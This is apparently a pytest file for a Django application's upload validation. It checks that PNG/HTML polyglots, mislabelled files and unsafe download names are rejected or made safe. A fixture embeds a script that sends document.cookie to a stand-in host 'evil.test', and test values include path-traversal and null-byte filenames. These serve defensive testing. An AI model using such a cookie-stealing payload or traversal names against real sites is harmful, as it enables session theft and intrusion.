"""One upload check for every upload (issue 17, point 7): core.uploads.

A PNG/HTML polyglot named invoice.html was accepted as a post image and downloaded as
invoice.html, so the saved file opened as a web page."""

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from approvals.demo import demo_png
from approvals.models import Attachment
from breaches.evidence import store_upload
from core.uploads import (
    CSV,
    JPEG,
    PDF,
    PNG,
    UploadRejected,
    check_upload,
    download_name,
)
from tests.approvals.conftest import make_post, soon

HTML_TAIL = b"<html><body><script>document.location='https://evil.test/'+document.cookie"
HTML_TAIL += b"</script></body></html>"


def polyglot() -> bytes:
    """Starts as a PNG (so image checks pass); the rest is a web page with a script."""
    return demo_png((1, 2, 3))[:40] + HTML_TAIL


@pytest.fixture(autouse=True)
def _private_storage(settings, tmp_path):
    settings.PRIVATE_STORAGE_ROOT = tmp_path / "private"


def _post_with(client, upload):
    return client.post(reverse("approvals:create", args=["post"]), {
        "title": "Invoice", "platform": "facebook", "account": "@North", "text": "See this",
        "image_description": "x", "publish_at": soon().strftime("%Y-%m-%dT%H:%M"),
        "audience": "parents", "files": [upload],
    })


@pytest.mark.parametrize("name", ["invoice.html", "invoice.png"])
def test_a_png_html_polyglot_is_refused_as_a_post_image_whatever_its_name(
        client_as, org, name):
    response = _post_with(client_as("staff"), SimpleUploadedFile(name, polyglot(), "image/png"))
    assert response.status_code == 200
    assert f"“{name}”" in response.content.decode()
    assert not org.staff.approval_requests.exists()
    assert not Attachment.objects.exists()


def test_a_real_image_named_for_a_web_page_is_refused_as_a_post_image(client_as, org):
    upload = SimpleUploadedFile("invoice.html", demo_png((9, 9, 9)), "text/html")
    response = _post_with(client_as("staff"), upload)
    assert "“invoice.html” is not a file type we accept" in response.content.decode()
    assert not org.staff.approval_requests.exists()


@pytest.mark.parametrize("name", ["invoice.html", "invoice.png"])
def test_the_polyglot_is_refused_as_report_evidence(name):
    with pytest.raises(UploadRejected):
        store_upload(SimpleUploadedFile(name, polyglot(), "image/png"))


def test_an_attachment_stored_before_the_check_downloads_under_a_name_for_what_it_is(
        client_as, org):
    req = make_post(org.staff, images=1)
    attachment = req.current_revision().attachments.get()
    Attachment.objects.filter(pk=attachment.pk).update(original_name="invoice.html")
    response = client_as("principal").get(
        reverse("approvals:attachment", args=[attachment.pk]) + "?download=1")
    assert response["Content-Type"] == "image/png"
    assert 'filename="invoice.html.png"' in response["Content-Disposition"]


@pytest.mark.parametrize(("name", "content_type", "expected"), [
    ("invoice.html", "image/png", "invoice.html.png"),
    ("photo.JPG", "image/jpeg", "photo.JPG"),
    ("../../etc/passwd", "application/pdf", "_.._etc_passwd.pdf"),
    ("a\x00b.pdf", "application/pdf", "a_b.pdf"),
    ("", "image/png", "file.png"),
])
def test_download_names_match_the_content_and_carry_no_path(name, content_type, expected):
    assert download_name(name, content_type) == expected


@pytest.mark.parametrize(("name", "content", "allowed", "reason"), [
    ("shot.png", b"%PDF-1.4 x", (PNG, PDF), "is called .png but its contents are a PDF"),
    ("cat.jpg", b"MZ\x90\x00program", (JPEG,), "really a Windows program"),
    ("staff.csv", b"\x89PNG\r\n\x1a\nxxxx", (CSV,), "not a file type we accept"),
    ("staff.csv", b"<html><script>x</script></html>", (CSV,), "its contents are a Saved web"),
    ("staff.txt", b"email,name\n", (CSV,), r"not a file type we accept \(CSV\)"),
])
def test_the_one_check_refuses_with_the_reason(name, content, allowed, reason):
    with pytest.raises(UploadRejected, match=reason):
        check_upload(SimpleUploadedFile(name, content), allowed=allowed)


def test_a_utf8_csv_is_accepted_as_csv():
    name, kind = check_upload(SimpleUploadedFile("staff.csv", "email,name\né,Zoë\n".encode()),
                              allowed=(CSV,))
    assert kind is CSV and name == "staff.csv"
